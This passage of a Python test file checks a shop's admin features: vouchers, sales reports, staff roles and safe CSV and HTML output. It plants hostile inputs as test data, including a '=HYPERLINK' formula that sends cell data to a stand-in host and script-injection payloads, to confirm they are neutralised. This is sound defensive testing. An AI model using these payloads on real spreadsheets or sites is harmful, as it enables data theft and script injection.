        ({"percent": "", "amount": "0"}, "amount"),
        ({"minimum": "x"}, "minimum"),
        ({"starts_on": "2026-02-02", "ends_on": "2026-01-01"}, "ends_on"),
        ({"starts_on": "yesterday"}, "starts_on"),
        ({"ends_on": "9999-12-31"}, "ends_on"),
        ({"max_uses": "0"}, "max_uses"),
    ],
)
def test_what_is_wrong_with_a_voucher_is_said_at_its_field(crew: Crew, form: dict[str, str], field: str) -> None:
    sent = {"code": "WRONG", "percent": "10", **form}
    answer = crew(Role.ORDERS).post("/admin/vouchers/new", data=sent)
    assert answer.status_code == 422
    assert error_at(answer.text, field)


def test_a_voucher_can_not_be_limited_below_its_uses(crew: Crew, shop: Shop) -> None:
    code = voucher(shop, percent=10, uses=7)
    form = {"percent": 10, "max_uses": 6, "edition": shop.vouchers.voucher(code).edition}
    answer = crew(Role.ORDERS).post(f"/admin/vouchers/{code}", data=form)
    assert "used 7 times" in error_at(answer.text, "max_uses")


# The report.
def test_the_report_adds_up_for_its_days_and_asks_little(crew: Crew, shop: Shop, till: Till) -> None:
    own = new_product(shop, "reported", price_minor=20_000)
    today = datetime.now(UTC).date()
    until_tomorrow = span_of(None, today + timedelta(days=1), today)  # midnight may pass below
    before = shop.reports.of(until_tomorrow)
    orders = [shop.orders.order(paid_order(shop, till, own, 2)) for _ in range(2)]
    shop.orders.refund(orders[0].id, 500, "staff")
    with questions() as asked:
        report = shop.reports.of(until_tomorrow)
    assert len(asked) == 5
    assert report.orders - before.orders == 2
    assert report.total_minor - before.total_minor == sum(order.total_minor for order in orders)
    assert report.refunded_minor - before.refunded_minor == 500
    sold = next(row for row in report.products if row.key == "reported")
    assert (sold.pieces, sold.total_minor) == (4, 80_000)
    assert report.products[0].key == "reported"
    assert sum(row.total_minor for row in report.categories) == sum(row.total_minor for row in report.products)
    assert any(row.sku == "glass-cup-s" for row in report.low)
    yesterday = span_of(today - timedelta(days=9), today - timedelta(days=1), today)
    assert shop.reports.of(yesterday).orders == 0
    page = crew(Role.REPORTS).get("/admin/report").text
    assert "reported" in page
    assert "/admin/products/" not in page  # who only reads figures is not led to where they may not go


@pytest.mark.parametrize("query", ["first=2026-01-02&last=2026-01-01", "first=2020-01-01&last=2026-01-01", "first=x",
                                   "last=9999-12-31", "last=0001-01-01"])  # fmt: skip
def test_days_that_can_not_be_reported_are_refused(crew: Crew, query: str) -> None:
    for path in ("/admin/report", "/admin/report/days.csv"):
        assert crew(Role.REPORTS).get(f"{path}?{query}").status_code == 422


def test_the_report_is_had_as_files_that_run_nothing(crew: Crew, shop: Shop, till: Till) -> None:
    own = new_product(shop, "formula")
    with shop.database.write() as session:
        formula = '=HYPERLINK("http://x.test?"&A1)'
        session.execute(update(Product).where(Product.slug == "formula").values(name=formula))
        session.execute(update(Variant).where(Variant.id == own).values(name="@SUM(1)", stock=2))
    paid_order(shop, till, own)
    for name in ("days", "products", "categories", "low-stock"):
        answer = crew(Role.REPORTS).get(f"/admin/report/{name}.csv")
        assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
        assert answer.headers["Content-Disposition"].startswith(f'attachment; filename="{name}-')
        rows = list(csv.reader(StringIO(answer.text)))
        assert len(rows) > 1
        assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "@", "-"))]
    assert "'=HYPERLINK" in crew(Role.REPORTS).get("/admin/report/products.csv").text
    assert crew(Role.REPORTS).get("/admin/report/accounts.csv").status_code == 404


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@x", "\t=1", "\r=1", "\n=1", "＝1"])
def test_a_cell_that_would_be_a_formula_is_text(text: str) -> None:
    cell = list(csv.reader(StringIO(written(["head"], [[text]]), newline="")))[1][0]
    assert cell == f"'{text}"


# Staff.
def test_owners_give_and_take_roles_and_both_end_the_sessions(owner: FlaskClient, app: APIFlask, shop: Shop) -> None:
    account_id = has_account(shop, "clerk@shop.test")
    clerk = app.test_client()
    clerk.post("/api/session", json={"email": "clerk@shop.test", "password": "a few words in a row"})
    assert clerk.get("/account").status_code == 200
    form = {"email": "Clerk@shop.test", "role": "orders"}
    assert owner.post("/admin/staff/grant", data=form).status_code == 303
    assert clerk.get("/account").status_code == 303
    clerk.post("/api/session", json={"email": "clerk@shop.test", "password": "a few words in a row"})
    assert clerk.get("/admin/orders").status_code == 200
    assert owner.post("/admin/staff/revoke", data=form).status_code == 303
    assert clerk.get("/admin/orders").status_code == 303
    assert recorded(shop, f"account:{account_id}") == ["staff: role given (done)", "staff: role taken (done)"]


@pytest.mark.parametrize(
    ("form", "field"),
    [({"email": "nobody@shop.test", "role": "orders"}, "email"), ({"email": "x", "role": "orders"}, "email"),
     ({"email": "shopper@crew.test", "role": "king"}, "role")],
)  # fmt: skip
def test_a_role_for_nobody_or_of_no_kind_is_refused_at_its_field(
    owner: FlaskClient, form: dict[str, str], field: str
) -> None:
    answer = owner.post("/admin/staff/grant", data=form)
    assert answer.status_code in {404, 422}
    assert error_at(answer.text, field)


def test_the_last_owner_stays_also_when_two_take_the_role_from_each_other_at_once(
    owner: FlaskClient, crew: Crew, shop: Shop
) -> None:
    refused = owner.post("/admin/staff/revoke", data={"email": "owner@crew.test", "role": "owner"})
    assert refused.status_code == 409
    assert "last owner" in refused.text
    has_account(shop, "second@crew.test", Role.OWNER)
    emails = iter(["owner@crew.test", "second@crew.test"])
    came = at_once(lambda: shop.staff.revoke(next(emails), Role.OWNER, crew.ids["owner"]), 2)
    assert [type(answer) for answer in came if answer is not None] == [Conflict]
    with shop.database.read() as connection:
        left = connection.execute(select(AccountRole.account_id).where(AccountRole.role == "owner")).scalars().all()
    assert len(left) == 1
    if left[0] != crew.ids["owner"]:
        shop.staff.grant("owner@crew.test", Role.OWNER, left[0])
    shop.staff.revoke("second@crew.test", Role.OWNER, crew.ids["owner"])
    owner.post("/api/session", json={"email": "owner@crew.test", "password": "a few words in a row"})


# What people write stays words.
class Elements(HTMLParser):
    """Collects what a page would run: scripts written into it, and attributes that are scripts."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        names = {name for name, _ in attrs}
        if tag == "script" and not names & {"src", "type"}:
            self.found.append(tag)
        self.found += [f"{tag} {name}" for name in names if name.startswith("on")]
        self.found += [f"{tag} {name}" for name, value in attrs if name in {"href", "src", "action"}
                       and (value or "").strip().lower().startswith("javascript:")]  # fmt: skip


def running(page: str) -> list[str]:
    parser = Elements()
    parser.feed(page)
    return parser.found


def test_what_is_written_into_any_field_is_shown_and_never_run(
    owner: FlaskClient, shop: Shop, till: Till, crew: Crew
) -> None:
    assert running(f"<p>{HOSTILE}</p>") == ["img onerror", "script"]
    own = new_product(shop, "hostile", stock=3)
    form = product_form(shop, "hostile", name=HOSTILE, description=HOSTILE, attributes=f"material: {HOSTILE[:60]}")
    assert owner.post("/admin/products/hostile", data=form).status_code == 303
    at = f"/admin/products/hostile/variants/{own}"
    assert owner.post(at, data=variant_form(shop, "hostile", name=HOSTILE)).status_code == 303
    count = {"seen": 3, "counted": 4, "reason": HOSTILE}
    assert owner.post(f"{at}/count", data=count).status_code == 303
    picture = {"key": "products/hostile/1.webp", "alt": HOSTILE, "place": 1}
    assert owner.post("/admin/products/hostile/pictures", data=picture).status_code == 303
    category = {"name": HOSTILE, "slug": "hostile", "position": 5}
    assert owner.post("/admin/categories", data=category).status_code == 303
    issued = {"code": "HOSTILE", "percent": 5, "note": HOSTILE, "is_active": "true"}
    assert owner.post("/admin/vouchers/new", data=issued).status_code == 303
    order_id = paid_order(shop, till, own)
    with shop.database.write() as session:
        words = dict.fromkeys(("name", "street", "extra", "city", "attention", "email"), HOSTILE)
        session.execute(update(StoredOrder).where(StoredOrder.id == order_id).values({**words, "postcode": "<b>1"}))
        session.add(
            OutboxRow(topic=HOSTILE[:40], payload={"order_id": HOSTILE}, announced_at=datetime.now(UTC),
                      attempts=1, last_error=HOSTILE, parked_at=datetime.now(UTC))
        )  # fmt: skip
    order, query = f"/admin/orders/{order_id}", urlencode({"q": HOSTILE})
    pages = (
        *("/products/hostile", "/products?q=alert", "/admin/products", "/admin/products/hostile"),
        *("/admin/products/hostile/media", "/admin/categories", "/admin/vouchers", "/admin/vouchers/HOSTILE"),
        *(order, f"{order}/refund", f"{order}/cancel", "/admin/orders", "/admin/jobs", "/admin/report"),
        *(f"/admin/{area}?{query}" for area in ("products", "orders", "record")),
    )
    for path in pages:
        answer = owner.get(path)
        assert answer.status_code == 200, path
        assert "alert(1)" in answer.text, path
        assert not running(answer.text), path
        assert SCRIPT not in answer.text, path
    wrong = {"code": HOSTILE, "percent": HOSTILE, "note": HOSTILE}
    assert not running(owner.post("/admin/vouchers/new", data=wrong).text)


@pytest.mark.parametrize("path", ["/admin/products/%00", "/admin/vouchers/%00", "/admin/products/%00/media",
                                  "/admin/report/%00.csv", "/admin/orders?q=%00", "/admin/record?q=%00"])  # fmt: skip
def test_an_address_that_no_database_can_take_is_refused(owner: FlaskClient, path: str) -> None:
    assert owner.get(path).status_code in {404, 422}


def test_the_record_holds_no_secrets(owner: FlaskClient, shop: Shop) -> None:
    with shop.database.read() as connection:
        entries = str(connection.execute(select(AuditEntry.__table__)).all())
    assert "argon2" not in entries
    assert "a few words in a row" not in entries
    assert "secret@shopper.test" not in entries
